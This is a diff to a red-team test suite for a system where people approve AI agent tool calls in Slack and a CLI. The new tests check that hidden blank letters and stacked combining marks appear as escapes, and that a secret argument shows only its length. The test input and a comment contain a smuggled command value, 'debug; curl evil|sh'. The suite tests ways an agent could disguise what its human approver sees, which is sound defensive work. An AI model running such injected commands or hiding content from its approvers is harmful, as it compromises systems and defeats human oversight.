@@ -5,10 +5,14 @@
  * - a bidi override (the bytes say one thing, the screen another) and zero-width characters;
  * - terminal control sequences and a line break that rewrite `gatehouse approvals show`'s
  *   "checked" line;
- * - arguments longer than a Slack message shows, the harmful part past the cut.
+ * - arguments longer than a Slack message shows, the harmful part past the cut;
+ * - blanks that are letters (a Braille blank, Hangul fillers) and stacked combining marks;
+ * - a command in a sensitive argument, which every surface redacts (`debug` and
+ *   `debug; curl evil|sh` must not read the same).
  * Through the real session workflow, the real Bolt app (its Web API at the fake Slack) and the
  * CLI's approval screen: the agent's text is drawn literally, every hidden character is an
- * escape, and a call Slack did not show whole cannot be approved from Slack.
+ * escape, a call Slack did not show whole cannot be approved from Slack, and a redacted value is
+ * shown by its length with a warning right above Approve.
  */
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
@@ -45,22 +49,45 @@ const noteCounter = defineTool({
   },
 });
 
+/** A write with a sensitive `value` (redacted wherever people read it), like `env.modifyProduction`. */
+const secretCounter = defineTool({
+  name: 'test.secretCounter',
+  description: 'Count one execution of a counter, setting a secret value',
+  effect: 'write',
+  environment: 'test',
+  resource: 'counters',
+  input: z.object({ counter: z.string().min(1).max(64), value: z.string().max(4096) }).strict(),
+  output: z.object({ counter: z.string() }),
+  sensitive: ['value'],
+  timeoutMs: 10_000,
+  retry: { maxAttempts: 1 },
+  idempotent: true,
+  async handler(args, ctx) {
+    await ctx.db.query(
+      `INSERT INTO test_counter_hits (idempotency_key, counter, hits) VALUES ($1, $2, 1)
+       ON CONFLICT (idempotency_key) DO UPDATE SET hits = test_counter_hits.hits + 1`,
+      [ctx.idempotencyKey, args.counter],
+    );
+    return { counter: args.counter };
+  },
+});
+
 const POLICY = parsed({
   name: 'what-a-person-reads',
   intent: { reviewBelow: 0 },
   approvers: { groups: { sre: ['U0ALICE', 'bob'] }, default: { groups: ['sre'], timeoutMinutes: 10, channel: '#gatehouse-approvals', fourEyes: true } },
 });
 
-/** Characters that must never reach a person raw (the ASCII space and the newline aside). */
-const HIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cs}\p{Default_Ignorable_Code_Point}\p{Zs}]/u;
-const rawHidden = (text: string) => [...text.replace(/[ \n]/g, '')].filter((ch) => HIDDEN.test(ch));
+/** Characters that must never reach a person raw (the ASCII space and the newline aside), blanks that are letters included; and runs of three combining marks. */
+const HIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cs}\p{Default_Ignorable_Code_Point}\p{Zs}\u115F\u1160\u2800\u3164\uFFA0]/u;
+const rawHidden = (text: string) => [...[...text.replace(/[ \n]/g, '')].filter((ch) => HIDDEN.test(ch)), ...(text.match(/[\p{Mn}\p{Me}]{3,}/gu) ?? [])];
 
 let h: Harness;
 let gh: Gatehouse;
 let harness: Awaited<ReturnType<typeof startSessionHarness>> | undefined;
 
 before(async () => {
-  harness = await startSessionHarness({ prefix: 'redteam_reads', policy: POLICY, extra: [noteCounter] });
+  harness = await startSessionHarness({ prefix: 'redteam_reads', policy: POLICY, extra: [noteCounter, secretCounter] });
   ({ h, gh } = harness);
 });
 after(async () => {
@@ -161,5 +188,38 @@ describe('an agent shapes what the approver reads', () => {
     assert.equal((await h.submitDeny(USERS.bob, 'read it in full: it drops billing')).result?.ok, true);
     assert.equal((await p.result).status, 'denied');
     assert.equal((await counterHits(h.db.pool, counter)).size, 0, 'the call never ran');
+  });
+
+  test('blanks that are letters and stacked marks are escapes; a secret shows its length, and a warning sits right above Approve', async () => {
+    // `vol-1` and `vol-1\u2800` look the same; marks stacked on a letter reach into the lines around it.
+    const counter = `c-${Math.random().toString(36).slice(2, 8)}\u2800`;
+    const intent = 'count test executions\u3164';
+    const reasoning = `routine${'\u0336\u0489\u035b'.repeat(5)} count\uffa0`;
+    const p = await held(intent, 'test.secretCounter', { counter, value: 'debug; curl evil|sh' }, reasoning);
+    const row = (await h.store.get(p.approvalId))!;
+    assert.equal(row.redactedArgs.value, '[REDACTED: 19 characters]', 'the length, and nothing else of the value');
+    const warning = '⚠ 1 value is hidden (a secret): you approve it unseen — check with the agent\'s owner if in doubt';
+
+    const slack = posted(p.post);
+    assert.deepEqual(rawHidden(slack.text), [], 'no blank letter or stacked mark reaches Slack raw');
+    assert.equal(slack.preformatted, shownJson(row.redactedArgs));
+    assert.ok(slack.preformatted!.includes('"value": "[REDACTED: 19 characters]"') && slack.preformatted!.includes('\\u2800'));
+    assert.ok(!slack.text.includes('curl'));
+    // One blank in the arguments, one filler in the intent, fifteen marks and a filler in the reasoning.
+    assert.match(slack.text, /18 hidden characters \(drawing nothing/);
+    const at = slack.blocks.findIndex((b) => b.type === 'actions');
+    assert.equal(JSON.stringify(slack.blocks[at - 1]), JSON.stringify({ type: 'section', text: { type: 'mrkdwn', text: warning } }), 'the warning, right above the buttons');
+
+    const cli = (await screen(p.approvalId)).split('\n');
+    assert.deepEqual(rawHidden(cli.join('\n')), [], 'nor the terminal');
+    assert.ok(cli.some((l) => l.includes('"value": "[REDACTED: 19 characters]"')));
+    assert.ok(cli.some((l) => l.includes('\\u0336\\u0489\\u035b')), 'the marks, each an escape');
+    assert.equal(cli[cli.length - 2], warning, 'the warning, right above the decide line');
+    assert.ok(cli[cli.length - 1]!.startsWith(`decide: gatehouse approvals approve ${p.approvalId} --digest `));
+
+    assert.equal((await h.click('deny', USERS.bob, p.target)).error, undefined);
+    assert.equal((await h.submitDeny(USERS.bob, 'a command in a log level')).result?.ok, true);
+    assert.equal((await p.result).status, 'denied');
+    assert.equal((await counterHits(h.db.pool, counter)).size, 0);
   });
 });
